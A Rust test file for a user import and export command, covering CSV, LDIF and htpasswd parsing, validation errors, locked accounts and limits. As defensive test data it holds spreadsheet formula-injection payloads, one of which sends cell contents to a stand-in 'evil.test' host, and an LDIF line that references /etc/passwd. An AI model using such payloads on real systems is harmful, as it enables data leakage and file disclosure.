//! `sealgate user import` and `user export`.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Stdio;
use std::thread;
use std::time::Duration;

use serde_json::{Value, json};

use crate::foreign_hashes::{FOREIGN_HASHES, IMPORTED_PASSWORD, REFUSED_HASHES};
use crate::server::Served;
use crate::site::{Site, stderr};

const CSV: [&str; 5] = ["user", "import", "-", "--format", "csv"];
const LDIF: [&str; 5] = ["user", "import", "-", "--format", "ldif"];
const HTPASSWD: [&str; 7] = ["user", "import", "-", "--format", "htpasswd", "--email-domain", "example.test"];

fn with<'a>(arguments: &[&'a str], more: &[&'a str]) -> Vec<&'a str> {
    [arguments, more].concat()
}

fn addresses(site: &Site) -> Vec<String> {
    let list = site.json(&["user", "list"]);
    let mut addresses: Vec<_> =
        list["users"].as_array().unwrap().iter().map(|user| user["email"].as_str().unwrap().to_owned()).collect();
    addresses.sort();
    addresses
}

/// Returns a CSV file with one user for each supported password hash.
fn all_hashes() -> String {
    let rows = FOREIGN_HASHES.iter().enumerate();
    let row =
        |(number, (_, hash)): (usize, &(&str, &str))| format!("UserRef {number},p{number}@example.test,\"{hash}\"\n");
    "name,email,password_hash\n".to_owned() + &rows.map(row).collect::<String>()
}

/// Microsoft Excel writes this line in locales with a decimal comma.
#[test]
fn a_first_line_that_names_the_delimiter_is_not_imported() {
    let site = Site::new();
    let file = "\u{feff}sep=;\r\nemail;name;groups\r\nanna@example.test;\"Öz; Anna\";staff,night shift\r\n";
    let imported = site.json_with(&CSV, file);
    assert_eq!((&imported["people"], &imported["groups"]), (&json!(1), &json!({ "night shift": 1, "staff": 1 })));
    assert_eq!(site.json(&["user", "show", "anna@example.test"])["name"], "Öz; Anna");
}

#[test]
fn users_are_added_with_all_attributes_of_the_file() {
    let site = Site::new();
    let hash = FOREIGN_HASHES[0].1;
    let file = format!(
        "email,name,username,groups,password_hash,email_verified,phone_number\n\
         anna@example.test,Anna Öz,Anna,\"staff, night shift\",{hash},true,'+90 212 555 01 01\n\
         ben@example.test,Ben,,staff,,,\n"
    );
    let imported = site.json_with(&CSV, &file);
    let expected = json!({
        "dry_run": false, "people": 2, "without_password": 1, "disabled": 0, "skipped": 0, "hashes": { "bcrypt": 1 },
        "groups": { "night shift": 1, "staff": 2 },
    });
    assert_eq!(imported, expected);
    let anna = site.json(&["user", "show", "anna"]);
    let expected = json!({
        "sub": anna["sub"], "email": "anna@example.test", "email_verified": true, "name": "Anna Öz", "username": "anna",
        "phone_number": "+90 212 555 01 01", "roles": [], "groups": ["night shift", "staff"], "state": "enabled",
        "created_at": anna["created_at"], "updated_at": anna["created_at"], "imported_hash": "bcrypt",
    });
    assert_eq!(anna, expected);
    let ben = site.json(&["user", "show", "ben@example.test"]);
    assert_eq!((&ben["email_verified"], &ben["imported_hash"]), (&json!(false), &Value::Null));
    let trail = site.json(&["audit", "list", "--user", "anna"]);
    let told = ["kind", "actor", "sub", "detail"].map(|name| trail["events"][0][name].clone());
    assert_eq!(told, [json!("user_created"), json!("operator"), anna["sub"].clone(), json!("import")]);
    assert!(site.store_holds(hash), "until the first sign-in");
}

#[test]
fn a_dry_run_prints_the_same_report_and_writes_nothing() {
    let site = Site::new();
    let file = all_hashes();
    let mut dry = site.json_with(&with(&CSV, &["--dry-run"]), &file);
    assert_eq!((addresses(&site), site.json(&["audit", "list"])["events"].clone()), (Vec::new(), json!([])));
    assert!(!site.store_holds("p1@example.test"));
    let imported = site.json_with(&CSV, &file);
    assert_eq!(dry["dry_run"].take(), true);
    dry["dry_run"] = json!(false);
    assert_eq!(dry, imported);
    assert_eq!(imported["people"], FOREIGN_HASHES.len());
    for (scheme, _) in FOREIGN_HASHES {
        let count = FOREIGN_HASHES.iter().filter(|(other, _)| other == scheme).count();
        assert_eq!(imported["hashes"][scheme], count, "{scheme}");
    }
    // A dry run also reports errors: after the import, all users exist.
    let twice = site.errors(&with(&CSV, &["--dry-run"]), &file);
    assert_eq!(twice, site.errors(&CSV, &file));
    assert_eq!(twice.len(), FOREIGN_HASHES.len() + 1);
    assert_eq!(twice[0], "line 2: email: a user with this e-mail address already exists; remove the line");
}

#[test]
fn every_error_is_reported_by_line_and_no_user_is_added() {
    let site = Site::new();
    site.add_user("there@example.test");
    site.json(&["user", "set", "there@example.test", "--username", "there"]);
    let file = [
        "email,name,username,groups,password_hash,email_verified,phone_number",
        "good@example.test,Good,good,staff,,,",
        "no address,A,,,,,",
        ",B,,,,,",
        "There@example.test,C,,,,,",
        "d@example.test,D,THERE,,,,",
        "e@example.test,,,,,,",
        "f@example.test,F,9f,,,,",
        "g@example.test,G,,,,maybe,",
        "h@example.test,H,,,,,0555",
        "i@example.test,I,good,,,,",
        "GOOD@example.test,J,,,,,",
        "k@example.test,K,,,$2y$31$pDxgKXJVyyzFE1ggU/xIy.ZLmy2WA7tZtd/V00ITmjkpbd5Ev7urG,,",
        "l@example.test,L\u{202e},,,,,",
        // The hash is in the wrong column.
        "m@example.test,M,,$2y$05$pDxgKXJVyyzFE1ggU/xIy.ZLmy2WA7tZtd/V00ITmjkpbd5Ev7urG$2y$05$pDxgKXJVyyzFE1ggU/xIy.ZLmy2WA7tZtd,,,",
        "n@example.test,N",
    ]
    .join("\n");
    let errors = site.errors(&CSV, &file);
    let told: Vec<_> = errors.iter().map(|error| error.splitn(3, ": ").take(2).collect::<Vec<_>>().join(" ")).collect();
    let expected = [
        "line 3 email",
        "line 4 email",
        "line 5 email",
        "line 6 username",
        "line 7 name",
        "line 8 username",
        "line 9 email_verified",
        "line 10 phone_number",
        "line 11 username",
        "line 12 email",
        "line 13 password_hash",
        "line 14 name",
        "line 15 groups",
    ];
    assert_eq!(told[..13], expected, "{errors:#?}");
    assert!(
        errors[13].starts_with("line 16: the row has 2 fields") && errors[14] == "no user was imported",
        "{errors:#?}"
    );
    assert!(!errors.concat().contains("pDxg"), "{errors:#?}");
    assert_eq!(addresses(&site), ["there@example.test"]);
}

#[test]
fn an_htpasswd_file_has_names_and_may_have_a_domain() {
    let site = Site::new();
    let hashes: Vec<_> = FOREIGN_HASHES.iter().filter(|(_, hash)| !hash.contains("{CRYPT}")).take(3).collect();
    let file = format!("# a comment\nanna:{}\nBen.K:{}\ncarol@other.test:{}\n", hashes[0].1, hashes[1].1, hashes[2].1);
    // Without the domain, the users have only their usernames.
    let there = Site::new();
    assert_eq!(there.json_with(&HTPASSWD[..5], &file)["people"], 3);
    assert_eq!(there.json(&["user", "show", "ben.k"])["email"], Value::Null);
    assert_eq!(there.json(&["user", "show", "carol@other.test"])["username"], Value::Null);
    assert!(site.errors(&with(&CSV, &["--email-domain", "a.test"]), &file)[0].contains("requires --format htpasswd"));
    assert_eq!(site.run(&with(&HTPASSWD[..5], &["--email-domain", "a b"]), "").status.code(), Some(2));
    assert_eq!(site.json_with(&HTPASSWD, &file)["people"], 3);
    assert_eq!(addresses(&site), ["Ben.K@example.test", "anna@example.test", "carol@other.test"]);
    let ben = site.json(&["user", "show", "ben.k"]);
    assert_eq!((&ben["name"], &ben["email_verified"]), (&json!("Ben.K"), &json!(false)));
    assert_eq!(site.json(&["user", "show", "carol@other.test"])["username"], Value::Null);
    // Errors name the line and the solution, and never the value.
    let rows: Vec<String> = (0..).zip(REFUSED_HASHES).map(|(number, hash)| format!("p{number}:{hash}\n")).collect();
    let rows = rows.concat();
    let errors = site.errors(&with(&HTPASSWD, &["--email-verified"]), &rows);
    assert_eq!(errors.len(), REFUSED_HASHES.len() + 1, "{errors:?}");
    for (error, number) in errors.iter().zip(1..=REFUSED_HASHES.len()) {
        assert!(error.starts_with(&format!("line {number}: password_hash: ")), "{error}");
        assert!(error.contains("user resend-invitation EMAIL"), "{error}");
    }
    assert!(!REFUSED_HASHES.iter().any(|hash| errors.concat().contains(hash)));
    assert_eq!(addresses(&site).len(), 3);
}

#[test]
fn a_user_without_an_address_is_imported_and_exported_by_username() {
    let site = Site::new();
    let file = "name,username,email,email_verified\nAnna,anna,,\nBen,ben,ben@a.test,true\nCem,,cem@a.test,\n";
    assert_eq!(site.json_with(&with(&CSV, &["--email-verified"]), file)["people"], 3);
    let anna = site.json(&["user", "show", "anna"]);
    assert_eq!((&anna["email"], &anna["email_verified"]), (&Value::Null, &json!(false)));
    // The exported file can be imported again, after columns that an import refuses were removed.
    let exported = site.text(&["user", "export"]);
    let mut lines = exported.lines();
    assert!(
        lines.next().unwrap().starts_with("\"sub\",\"email\",\"email_verified\",\"name\",\"username\","),
        "{exported}"
    );
    let rows = lines.map(|line| line.split(',').skip(1).take(4).collect::<Vec<_>>().join(",") + "\n");
    let there = Site::new();
    there.json_with(&CSV, &("email,email_verified,name,username\n".to_owned() + &rows.collect::<String>()));
    for name in ["anna", "ben", "cem@a.test"] {
        let [one, other] = [&site, &there].map(|site| site.json(&["user", "show", name]));
        for member in ["email", "email_verified", "username", "name"] {
            assert_eq!(one[member], other[member], "{name} {member}");
        }
    }
    // Without the column of the address.
    assert_eq!(there.json_with(&CSV, "username,name\ndeniz,Deniz\n")["people"], 1);
    let errors = there.errors(&CSV, "username,email,name,email_verified\n,,Eda,\nfiliz,,Filiz,true\ndeniz,,D,\n");
    assert!(errors[0].starts_with("line 2: email: there is neither an e-mail address nor a username"), "{errors:?}");
    assert!(errors[1].starts_with("line 3: email_verified: the user has no e-mail address"), "{errors:?}");
    assert!(errors[2].starts_with("line 4: username: a user with this username already exists"), "{errors:?}");
    assert_eq!((errors.len(), errors[3].as_str()), (4, "no user was imported"));
    let errors = there.errors(&CSV, "name,groups\nEda,\n");
    assert!(errors[0].starts_with("line 1: there is no column email or username"), "{errors:?}");
    // From a directory, as a user without `mail`.
    site.json_with(&LDIF, "dn: uid=eda\nobjectClass: person\nuid: eda\ncn: Eda\n");
    assert_eq!(site.json(&["user", "show", "eda"])["email"], Value::Null);
}

/// If they were imported as enabled, users whom the directory has locked out could sign in.
#[test]
fn users_who_are_locked_or_expired_in_the_directory_are_imported_disabled() {
    let site = Site::new();
    let accounts = [
        ("ppolicy", "pwdAccountLockedTime: 000001010000Z", "disabled"),
        ("nslock", "nsAccountLock: TRUE", "disabled"),
        ("nsopen", "nsAccountLock: false", "enabled"),
        ("adoff", "userAccountControl: 514", "disabled"),
        ("adon", "userAccountControl: 512", "enabled"),
        ("adexpired", "accountExpires: 132223104000000000", "disabled"),
        ("adnever", "accountExpires: 9223372036854775807", "enabled"),
        ("shadowpast", "shadowExpire: 10957", "disabled"),
        ("shadownever", "shadowExpire: -1", "enabled"),
        ("shadowlater", "shadowExpire: 99999", "enabled"),
    ];
    let entries =
        accounts.map(|(uid, line, _)| format!("dn: uid={uid}\nuid: {uid}\ncn: {uid}\nmail: {uid}@a.test\n{line}\n\n"));
    let planned = site.json_with(&with(&LDIF, &["--dry-run"]), &entries.concat());
    assert_eq!((&planned["people"], &planned["disabled"]), (&json!(10), &json!(5)));
    site.json_with(&LDIF, &entries.concat());
    for (uid, _, state) in accounts {
        assert_eq!(site.json(&["user", "show", uid])["state"], state, "{uid}");
    }
    let csv = "email,name,state\nx@a.test,X,Disabled\ny@a.test,Y,\n";
    assert_eq!(site.json_with(&CSV, csv)["disabled"], 1);
    assert_eq!(site.json(&["user", "show", "x@a.test"])["state"], "disabled");
    assert!(site.errors(&CSV, "email,name,state\nz@a.test,Z,off\n")[0].contains("state: write enabled or disabled"));
}

#[test]
fn only_user_entries_of_a_directory_are_imported() {
    let site = Site::new();
    let ssha = FOREIGN_HASHES.iter().find(|(scheme, _)| *scheme == "{SSHA}").unwrap().1;
    let file = format!(
        "version: 1\n\ndn: ou=people,dc=example,dc=test\nobjectClass: organizationalUnit\nou: people\n\n\
         dn: uid=anna,ou=people,dc=example,dc=test\nobjectClass: inetOrgPerson\nuid: anna\ncn: Anna Kaya\ndisplayName:: QW5uYSDDlno=\n\
         sn: Kaya\nmail: anna@exam\n ple.test\nuserPassword: {ssha}\nmemberOf: cn=staff,ou=groups,dc=example,dc=test\n\n"
    );
    let imported = site.json_with(&with(&LDIF, &["--email-verified"]), &file);
    let expected = json!({
        "dry_run": false, "people": 1, "without_password": 0, "disabled": 0, "skipped": 1, "hashes": { "{SSHA}": 1 },
        "groups": { "staff": 1 },
    });
    assert_eq!(imported, expected);
    let anna = site.json(&["user", "show", "anna"]);
    assert_eq!((&anna["name"], &anna["email_verified"]), (&json!("Anna Öz"), &json!(true)));
    // The hash of the empty password.
    let empty = "dn: uid=ben\nmail: ben@example.test\ncn: Ben\nuserPassword: {SHA}2jmj7l5rSw0yVb/vlWAYkK/YBwk=\n";
    let errors = site.errors(&LDIF, empty);
    assert!(errors[0].starts_with("line 1: password_hash: the hash is that of the empty password"), "{errors:?}");
    let wrong = "dn: uid=ben\nobjectClass: person\ncn: Ben\n\ndn: uid=c\nmail: c@example.test\ncn: C\nuserPassword:< file:///etc/passwd\n";
    let errors = site.errors(&LDIF, wrong);
    assert!(errors[0].starts_with("line 1: email: there is neither an e-mail address nor a username"), "{errors:?}");
    assert!(
        errors[1].starts_with("line 8: userpassword: a reference to another file (:<) is not supported"),
        "{errors:?}"
    );
}

#[test]
fn reading_has_a_size_limit() {
    let site = Site::new();
    let file = site.config().with_file_name("people.csv");
    let path = file.to_str().unwrap();
    let arguments = ["user", "import", path, "--format", "csv"];
    fs::File::create(&file).unwrap().set_len((32 << 20) + 1).unwrap();
    assert_eq!(site.errors(&arguments, ""), [format!("{path}: the file has more than 32 MiB; split it")]);
    let people =
        |count: usize| (0..count).map(|number| format!("p{number}@example.test,P\n")).collect::<Vec<_>>().concat();
    fs::write(&file, "email,name\n".to_owned() + &people(10_001)).unwrap();
    let errors = site.errors(&arguments, "");
    assert_eq!(errors, ["line 10002: more than 10000 users; split the file", "no user was imported"]);
    fs::write(&file, "email,name\n").unwrap();
    assert_eq!(site.errors(&arguments, ""), ["the file contains no users", "no user was imported"]);
    fs::remove_file(&file).unwrap();
    assert!(site.errors(&arguments, "")[0].starts_with(&format!("{path}: ")));
    // The maximum number of users, in one commit.
    assert_eq!(site.json_with(&CSV, &("email,name\n".to_owned() + &people(10_000)))["people"], 10_000);
    // The number of reported errors is limited too.
    let again = site.errors(&CSV, &("email,name\n".to_owned() + &people(2_000)));
    assert_eq!((again.len(), again[1000].as_str()), (1002, "and 1000 more"));
}

#[test]
fn a_crash_during_an_import_leaves_no_users_or_all() {
    let hash = FOREIGN_HASHES.iter().map(|(_, hash)| *hash).max_by_key(|hash| hash.len()).unwrap();
    let row = |number: usize| format!("person{number}@example.test,UserRef {number},\"{hash}\"\n");
    let file = "email,name,password_hash\n".to_owned() + &(0..10_000).map(row).collect::<String>();
    // The commit writes more than 10 MB.
    for megabytes in [3, 9] {
        let site = Site::new();
        let config = site.config();
        let people = config.with_file_name("people.csv");
        fs::write(&people, &file).unwrap();
        let (config, people) = (config.to_str().unwrap(), people.to_str().unwrap());
        let mut import = site.program(&["user", "import", people, "--format", "csv", "--config", config]);
        let mut import = import.stdout(Stdio::null()).spawn().unwrap();
        let log = site.store_directory().join("db");
        while fs::metadata(&log).map_or(0, |log| log.len()) < megabytes << 20 {
            assert!(import.try_wait().unwrap().is_none(), "it ended before it had written that much");
            thread::sleep(Duration::from_millis(1));
        }
        import.kill().unwrap();
        import.wait().unwrap();
        let left = site.text(&["user", "export"]).lines().count() - 1;
        assert!(left == 0 || left == 10_000, "{left} after {megabytes} MB");
        // After a crash without imported users, the same file can be imported.
        let again = site.run(&["user", "import", people, "--format", "csv", "--dry-run"], "");
        assert_eq!(again.status.success(), left == 0);
    }
}

#[tokio::test]
async fn a_running_server_imports_a_file_that_is_longer_than_other_commands() {
    let served = Served::start().await;
    let hash = FOREIGN_HASHES.iter().map(|(_, hash)| *hash).max_by_key(|hash| hash.len()).unwrap();
    let row = |number: usize| format!("person{number}@example.test,\"UserRef, {number}\",\"{hash}\"\n");
    let file = "email,name,password_hash\n".to_owned() + &(0..2_000).map(row).collect::<String>();
    let (dry, whole) = (file.clone(), file.clone());
    let people = served.run(move |site| site.json_with(&with(&CSV, &["--dry-run"]), &dry)["people"].clone()).await;
    assert_eq!((people, served.store.users(None, 1).await.unwrap().len()), (json!(2_000), 0));
    let people = served.run(move |site| site.json_with(&CSV, &whole)["people"].clone()).await;
    assert_eq!(people, 2_000);
    assert_eq!(served.run(|site| addresses(site).len()).await, 2_000);
    let errors = served.run(move |site| site.errors(&CSV, &file)).await;
    assert_eq!(errors.last().unwrap(), "no user was imported");
    let table = served.run(|site| site.text(&["user", "export"])).await;
    assert_eq!(table.lines().count(), 2_001);
}

#[test]
fn an_export_has_no_hashes_and_no_spreadsheet_formulas() {
    let site = Site::new();
    let hash = FOREIGN_HASHES[0].1;
    let file = format!(
        "email,name,username,groups,password_hash,phone_number\n\
         anna@example.test,\"=HYPERLINK(\"\"https://evil.test\"\")\",anna,\"b,a\",{hash},+90 212 555 01 01\n\
         @ben@example.test,-1+1,,@x,,\n"
    );
    // The local part of an address must not be empty.
    let errors = site.errors(&CSV, &file);
    assert!(errors[0].starts_with("line 3: email"), "{errors:?}");
    site.json_with(&CSV, &file.replace("@ben@", "+ben@"));
    let table = site.text(&["user", "export", "--format", "csv"]);
    let lines: Vec<&str> = table.split("\r\n").collect();
    let columns = "\"sub\",\"email\",\"email_verified\",\"name\",\"username\",\"phone_number\",\"picture\",\"groups\",\"roles\",\
                   \"state\",\"created_at\",\"updated_at\",\"imported_hash\"";
    assert_eq!((lines[0], lines.len()), (columns, 4));
    let row = |name: &str| *lines.iter().find(|line| line.contains(name)).unwrap();
    let anna = row("anna@example.test");
    assert!(anna.contains(
        ",\"'=HYPERLINK(\"\"https://evil.test\"\")\",\"anna\",\"'+90 212 555 01 01\",\"\",\"a,b\",\"\",\"enabled\","
    ));
    assert!(anna.ends_with(",\"bcrypt\""), "{anna}");
    let ben = row("ben@example.test");
    assert!(ben.contains("\"'+ben@example.test\",\"false\",\"'-1+1\",\"\",\"\",\"\",\"'@x\""), "{ben}");
    assert!(!table.contains("$2y$") && !table.contains("pDxg"));
    // An export creates a file that only the owner can read, and does not overwrite it.
    let file = site.config().with_file_name("people.csv");
    let path = file.to_str().unwrap();
    assert_eq!(site.json(&["user", "export", "--to", path]), json!({ "file": path, "people": 2 }));
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(fs::read_to_string(&file).unwrap(), table);
    assert_eq!(site.errors(&["user", "export", "--to", path], "").len(), 1);
    // An import accepts the exported values.
    let other = Site::new();
    let rows: Vec<_> = lines[1..3].iter().map(|line| line.split("\",\"").collect::<Vec<_>>()).collect();
    let again: Vec<String> = rows.iter().map(|row| format!("\"{}\",\"{}\",\"{}\"\n", row[1], row[3], row[5])).collect();
    let again = again.concat();
    other.json_with(&CSV, &format!("email,name,phone_number\n{again}"));
    let names = |site: &Site| {
        let list = site.json(&["user", "list"]);
        let mut names: Vec<String> = list["users"]
            .as_array()
            .unwrap()
            .iter()
            .map(|user| format!("{} {}", user["name"], user["email"]))
            .collect();
        names.sort();
        names
    };
    assert_eq!(names(&other), names(&site));
}

/// Excel in Turkish splits the lines of a file at semicolons, also within quotation marks that begin
/// in the middle of a cell.
#[test]
fn an_export_has_no_formulas_after_semicolons_and_is_imported_with_the_same_values() {
    let site = Site::new();
    let names = [
        "x;=HYPERLINK(\"http://evil.test/?\"&A1,\"open\");y",
        "x;\"=1&\";@a; +b",
        "'=kept",
        "x;''=kept",
        "plain; O'Neil - 1",
    ];
    // Set by a command, because an import removes the apostrophes.
    for (number, name) in names.iter().enumerate() {
        let address = format!("u{number}@example.test");
        site.json_with(&CSV, &format!("email,name\n{address},N\n"));
        site.json(&["user", "set", &address, "--name", name, "--add-group", "g;=1+1"]);
    }
    let table = site.text(&["user", "export"]);
    let formulas = |table: &str| -> Vec<String> {
        let cells = table.split([';', '\t', '\r', '\n']).map(|cell| cell.trim_start_matches(['"', ' ']));
        cells.filter(|cell| cell.starts_with(['=', '+', '-', '@'])).map(str::to_owned).collect()
    };
    assert_eq!(formulas(&table), [""; 0]);
    let other = Site::new();
    let rows: Vec<Vec<&str>> = table.lines().skip(1).map(|line| line.split("\",\"").collect()).collect();
    let again = rows.iter().map(|row| format!("\"{}\",\"{}\",\"{}\"\n", row[1], row[3], row[7]));
    other.json_with(&CSV, &format!("email,name,groups\n{}", again.collect::<String>()));
    for (number, name) in names.iter().enumerate() {
        let user = other.json(&["user", "show", &format!("u{number}@example.test")]);
        assert_eq!((&user["name"], &user["groups"]), (&json!(name), &json!(["g;=1+1"])));
    }
    // The events of these changes name the group.
    let events = site.text(&["audit", "export", "--to", "-", "--format", "csv"]);
    assert!(events.contains("group added g;'=1+1") && formulas(&events).is_empty(), "{events}");
}

#[test]
fn help_describes_the_accepted_files() {
    let site = Site::new();
    let output = site.run(&["user", "import", "--help"], "");
    let help = String::from_utf8(output.stdout.clone()).unwrap();
    for word in ["bcrypt", "{SSHA}", "argon2id", "--email-domain", "--dry-run", "htpasswd", "memberOf", "10,000"] {
        assert!(help.contains(word), "{word}: {help}");
    }
    assert_eq!(stderr(&output), "");
    assert!(!help.contains(IMPORTED_PASSWORD));
}
